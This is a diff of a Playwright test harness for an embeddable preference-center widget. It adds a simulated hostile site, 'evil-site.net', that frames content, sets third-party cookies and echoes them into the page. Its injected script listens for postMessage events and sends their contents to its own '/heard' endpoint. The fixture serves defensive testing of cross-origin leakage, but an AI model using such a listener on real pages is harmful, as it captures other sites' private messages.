@@ -3,12 +3,13 @@ import type { BrowserContext, Frame, Page } from 'playwright-core';
 import { freePorts, type Product, startProduct } from '../kit/product.ts';
 import { until } from '../kit/until.ts';
 import { type Browser, longestWait, openBrowser } from './browser.ts';
-import { makeCertificate, passTo, serveSites, startDemoSite } from './sites.ts';
+import { makeCertificate, passTo, type Site, serveSites, startDemoSite } from './sites.ts';
 
 export const center = 'b00c5000-0000-4000-8000-000000000001';
 const secret = '0HOdeR5ktL2QYJq1MgTpKsYzBgzRDrVZT0Q20dot4ws';
 const otherDomain = 'preferences.sayso-center.com';
 const shopName = 'www.harbour-shop.org';
+const evilName = 'evil-site.net';
 /** The script comes from it, and no frame does: `/embed/dead` breaks off, `/embed/slow` is never answered. */
 const brokenName = 'broken.sayso-center.com';
 /** The sites, for a browser that has to be told where they are. */
@@ -19,17 +20,28 @@ export interface FramedOptions {
   readonly width?: number;
   readonly height?: number;
   readonly dark?: boolean;
+  /** The browser blocks the cookies of third parties. */
+  readonly blocksCookies?: boolean;
 }
 
 /** The preference center, and a site, of another registrable domain unless said, that frames it: the demo's, and pages of a test's own. */
-export interface FramedSites {
+interface Sites {
   readonly product: Product;
   readonly shop: string;
   readonly sayso: string;
   readonly broken: string;
+  readonly evil: string;
+  /** What the scripts of the evil site have heard. */
+  readonly heardByEvil: string[];
+  end(): Promise<void>;
+}
+
+export interface FramedSites extends Omit<Sites, 'end'> {
+  /** A page of somebody who was nowhere before; the one before is closed. */
   open(options?: FramedOptions): Promise<Page>;
   /** The address of a page of the shop with this content, and these headers. */
   pageOf(html: string, headers?: Readonly<Record<string, string>>): string;
+  evilPageOf(html: string): string;
   /** A frame's address: what the element asks for, or `plain` an address of its own. */
   element(attributes?: string, subject?: string): Promise<string>;
   plain(asked?: string, subject?: string): Promise<string>;
@@ -37,18 +49,44 @@ export interface FramedSites {
   close(): Promise<void>;
 }
 
-export async function openFramedSites(saysoName = otherDomain): Promise<FramedSites> {
+let shared: Promise<Sites> | undefined;
+
+/** One product and one shop for all files of this process, with what their people have changed. */
+export async function openFramedSites(): Promise<FramedSites> {
+  shared ??= startSites(otherDomain);
+  return visit(await shared, () => Promise.resolve());
+}
+
+/** A product and a shop that no other file has. */
+export async function openOwnFramedSites(saysoName = otherDomain): Promise<FramedSites> {
+  const sites = await startSites(saysoName);
+  return visit(sites, sites.end);
+}
+
+/** At the end of the process of tests. */
+export async function endFramedSites(): Promise<void> {
+  await (await shared)?.end();
+}
+
+async function startSites(saysoName: string): Promise<Sites> {
   const [demoPort = 0] = await freePorts(1);
-  const certificate = makeCertificate([saysoName, shopName, brokenName]);
+  const names = [saysoName, shopName, brokenName, evilName] as const;
+  const certificate = makeCertificate(names);
+  const heardByEvil: string[] = [];
   let product: Product | undefined;
-  const sites = await serveSites(certificate, (host) => {
+  const server = await serveSites(certificate, (host) => {
     if (host === saysoName) return passTo(`http://127.0.0.1:${product?.env['PORT']}`);
     if (host === brokenName) return brokenSite;
+    if (host === evilName) return evilSite;
     return host === shopName ? shopSite(passTo(`http://127.0.0.1:${demoPort}`)) : undefined;
   });
-  const [sayso, shop, broken] = [saysoName, shopName, brokenName].map(
-    (name) => `https://${name}:${sites.port}`,
-  ) as [string, string, string];
+  const originOf = (name: string) => `https://${name}:${server.port}`;
+  const [sayso, shop, broken, evil] = [saysoName, shopName, brokenName, evilName].map(originOf) as [
+    string,
+    string,
+    string,
+    string,
+  ];
   const demo = await startDemoSite({ DEMO_PORT: String(demoPort), DEMO_URL: shop, SAYSO_URL: sayso });
   const keys = `http://127.0.0.1:${demoPort}/.well-known/jwks.json`;
   const linkKeys = [
@@ -60,16 +98,64 @@ export async function openFramedSites(saysoName = otherDomain): Promise<FramedSi
     centers: [{ address: center, center, embedOrigins: [shop], linkKeys }],
   });
   const started = product;
-  const browser: Browser = await openBrowser();
-  const contexts: BrowserContext[] = [];
-
   return {
     product,
     shop,
     sayso,
     broken,
-    async open({ script = true, width = 1280, height = 900, dark = false } = {}) {
-      const context = await browser.newContext({
+    evil,
+    heardByEvil,
+    async end() {
+      await started[Symbol.asyncDispose]();
+      await demo.close();
+      await server.close();
+    },
+  };
+
+  function brokenSite(...[request, response]: Parameters<Site>): void {
+    if (request.url?.startsWith('/embed/dead')) response.destroy();
+    else if (!request.url?.startsWith('/embed/')) {
+      request.headers.host = new URL(sayso).host;
+      passTo(`http://127.0.0.1:${product?.env['PORT']}`)(request, response);
+    }
+  }
+
+  function shopSite(demoSite: Site): Site {
+    return (request, response) => {
+      const url = new URL(request.url ?? '/', shop);
+      if (url.pathname !== '/test') return demoSite(request, response);
+      const headers: Record<string, string> = JSON.parse(url.searchParams.get('headers') ?? '{}');
+      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', ...headers });
+      response.end(`<!doctype html><html lang="en"><title>A shop</title>${url.searchParams.get('html')}`);
+    };
+  }
+
+  /** Frames whatever it is given, sets cookies where it may, and reports every message that its scripts hear. */
+  function evilSite(...[request, response]: Parameters<Site>): void {
+    const url = new URL(request.url ?? '/', evil);
+    if (url.pathname === '/heard') heardByEvil.push(url.search);
+    const script = `<script>addEventListener('message', (event) => fetch('/heard?' + JSON.stringify(event.data)))</script>`;
+    const cookie = request.headers.cookie ?? 'no cookie';
+    response.writeHead(200, {
+      'Content-Type': 'text/html; charset=utf-8',
+      'Set-Cookie': 'third=party; SameSite=None; Secure; Path=/',
+    });
+    response.end(
+      `<!doctype html><title>evil</title><p id="cookie">${cookie}</p>${script}${url.searchParams.get('html') ?? ''}`,
+    );
+  }
+}
+
+async function visit({ end, ...sites }: Sites, last: () => Promise<void>): Promise<FramedSites> {
+  const { shop, sayso, evil } = sites;
+  const browser: Browser = await openBrowser();
+  let context: BrowserContext | undefined;
+
+  return {
+    ...sites,
+    async open({ script = true, width = 1280, height = 900, dark = false, blocksCookies = false } = {}) {
+      await context?.close();
+      context = await browser.newContext({
         javaScriptEnabled: script,
         ignoreHTTPSErrors: true,
         locale: 'en',
@@ -78,11 +164,14 @@ export async function openFramedSites(saysoName = otherDomain): Promise<FramedSi
         reducedMotion: 'reduce',
       });
       context.setDefaultTimeout(longestWait);
-      contexts.push(context);
-      return context.newPage();
+      const page = await context.newPage();
+      if (script) await page.addInitScript(patience);
+      if (blocksCookies) await blockCookies(page);
+      return page;
     },
     pageOf: (html, headers = {}) =>
       `${shop}/test?${new URLSearchParams({ html, headers: JSON.stringify(headers) })}`,
+    evilPageOf: (html) => `${evil}/?${new URLSearchParams({ html })}`,
     async element(attributes = '', subject = 'anna@example.org') {
       const ticket = await mintTicket(subject);
       return `<script src="${sayso}/embed.js"></script><sayso-preferences center="${center}" ticket="${ticket}" ${attributes}></sayso-preferences>`;
@@ -92,31 +181,22 @@ export async function openFramedSites(saysoName = otherDomain): Promise<FramedSi
     },
     ticket: (subject = 'anna@example.org') => mintTicket(subject),
     async close() {
-      for (const context of contexts) await context.close();
       await browser.close();
-      await started[Symbol.asyncDispose]();
-      await demo.close();
-      await sites.close();
+      await last();
     },
   };
+}
 
-  function brokenSite(...[request, response]: Parameters<ReturnType<typeof passTo>>): void {
-    if (request.url?.startsWith('/embed/dead')) response.destroy();
-    else if (!request.url?.startsWith('/embed/')) {
-      request.headers.host = new URL(sayso).host;
-      passTo(`http://127.0.0.1:${product?.env['PORT']}`)(request, response);
-    }
-  }
+/** The element gives up after ten seconds, which a busy machine may need. A clock of a test comes after this. */
+const patience = `{ const later = setTimeout; globalThis.setTimeout = (work, ms, ...more) =>
+  later(work, ms === 10_000 ? ${longestWait} : ms, ...more); }`;
 
-  function shopSite(demoSite: ReturnType<typeof passTo>): ReturnType<typeof passTo> {
-    return (request, response) => {
-      const url = new URL(request.url ?? '/', shop);
-      if (url.pathname !== '/test') return demoSite(request, response);
-      const headers: Record<string, string> = JSON.parse(url.searchParams.get('headers') ?? '{}');
-      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', ...headers });
-      response.end(`<!doctype html><html lang="en"><title>A shop</title>${url.searchParams.get('html')}`);
-    };
-  }
+async function blockCookies(page: Page): Promise<void> {
+  const devTools = await page.context().newCDPSession(page);
+  await devTools.send('Network.enable');
+  await devTools.send('Network.setCookieControls', {
+    enableThirdPartyCookieRestriction: true,
+  });
 }
 
 function mintTicket(subject: string): Promise<string> {
